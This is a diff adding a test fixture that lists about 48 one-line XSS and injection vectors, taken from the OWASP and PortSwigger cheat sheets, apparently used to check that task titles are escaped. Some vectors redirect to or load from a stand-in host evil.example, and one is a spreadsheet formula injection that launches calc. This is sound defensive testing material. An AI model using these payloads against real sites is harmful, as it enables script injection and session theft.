@@ -1,0 +1,58 @@
+/** Whatever runs of a vector calls this, which opens a dialog that the browser of the tests sees. */
+const RUN = 'alert(document.domain)'
+
+/**
+ * Texts that are markup, a link or code once somebody forgets that they are texts, one for each way
+ * that is known to work somewhere (OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat
+ * sheet). All are of one line, and none is longer than a title of a task may be.
+ */
+export const VECTORS = [
+  `<script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `--><script>${RUN}</script><!--`,
+  `<!--<script>`,
+  `]]><script>${RUN}</script>`,
+  `"><img src=x onerror=${RUN}>`,
+  `'><img src=x onerror=${RUN}>`,
+  `<img src=x onerror=${RUN}//`,
+  `<img src=//evil.example/pixel.png>`,
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
+  `<iframe src="javascript:${RUN}">`,
+  `<object data="data:text/html,<script>${RUN}</script>">`,
+  `<details open ontoggle=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<body onpageshow=${RUN}>`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
+  `<link rel=stylesheet href=//evil.example/a.css>`,
+  `<style>*{display:none}@import'//evil.example/a.css';</style>`,
+  `<form action=//evil.example><button formaction=javascript:${RUN}>x</button></form>`,
+  `<a href="javascript:${RUN}">a link</a>`,
+  `<template><script>${RUN}</script></template>`,
+  `" onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}//https://example.com`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `vbscript:msgbox(1)`,
+  `https://example.com/"onclick=${RUN}//`,
+  `[a link](javascript:${RUN})`,
+  `![a picture](x"onerror="${RUN})`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${RUN}&#62;`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `'-${RUN}-'`,
+  `\`\${${RUN}}\``,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\u2028${RUN}\u2029`,
+  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `=cmd|' /C calc'!A0`,
+]
